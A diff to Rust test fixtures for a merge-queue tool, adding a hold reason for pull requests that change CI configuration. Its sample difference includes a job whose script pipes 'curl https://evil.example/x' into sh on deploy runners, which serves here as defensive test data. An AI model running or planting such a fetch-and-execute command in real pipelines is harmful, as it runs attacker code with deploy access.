@@ -1,6 +1,7 @@
 //! A request, a run and a pen to write letters with.
 
 use gatepost::mail::letter::{Case, Delivering, Draft, ListWords, Pen, TargetWords};
+use gatepost::pull::ci_change::CiDifference;
 use gatepost::pull::cover::{Cover, Person, Request};
 use gatepost::pull::ids::{ListName, ObjectId, PipelineId, PullNumber, RunId, TargetName};
 use gatepost::pull::request::{HoldReason, Plan, Pull, Stage, Trusted};
@@ -169,7 +170,8 @@ impl World {
     }
 
     pub fn held(&mut self, reason: HoldReason, audience: Audience) -> Draft {
-        let trusted = matches!(reason, HoldReason::OldTag { .. }).then(trusted);
+        let known = matches!(reason, HoldReason::OldTag { .. } | HoldReason::CiChanged { .. });
+        let trusted = known.then(trusted);
         self.pull.stage = Stage::Held { trusted, reason, since: self.now, told: false };
         self.pull.attempts = 0;
         let case = Case { run: None, ..self.case() };
@@ -315,11 +317,30 @@ pub fn refusals() -> Vec<(&'static str, Refusal)> {
     ]
 }
 
+/// What a request would change in CI: more than a record keeps.
+fn difference() -> CiDifference {
+    CiDifference {
+        digest: "5f".repeat(32),
+        summary: "1 job added, 1 job changed, 1 CI file changed".into(),
+        lines: vec![
+            "job check-s390x, tags: [\"s390x\"] -> [\"deploy\"]".into(),
+            "job mine is added: script: [\"curl https://evil.example/x | sh\"]; stage: test; \
+             tags: [\"deploy\"]"
+                .into(),
+            "configuration of mine is added: rules: - if: $CI_COMMIT_BRANCH; script: - curl \
+             https://evil.example/x | sh"
+                .into(),
+        ],
+        total: 4,
+    }
+}
+
 /// Every reason to hold, with a name for each.
 pub fn holds() -> Vec<(&'static str, HoldReason)> {
     vec![
         ("held-backlog", HoldReason::Backlog),
         ("held-late", HoldReason::LateArrival),
+        ("held-ci", HoldReason::CiChanged { run: RunId(23), difference: difference() }),
         ("held-old-tag", HoldReason::OldTag { tagged_at: "2025-11-30T08:00:00Z".parse().unwrap() }),
     ]
 }
@@ -344,6 +365,10 @@ pub fn every_letter(delivering: Delivering) -> Vec<(String, Draft)> {
             letters.push((name, World::new(delivering).held(reason.clone(), audience)));
         }
     }
+    let mut approved = World::new(delivering);
+    let dropped = vec!["build-s390x".to_owned()];
+    approved.run.ci = CiCheck::Approved { by: "rita".into(), dropped };
+    letters.push(("passed-ci-approved".into(), approved.tested(outcomes().remove(0).1)));
     let mut late = World::new(delivering);
     late.now = "2026-01-03T10:40:00Z".parse().unwrap();
     let because = "it is third in the queue, and one pipeline may run at a time.";
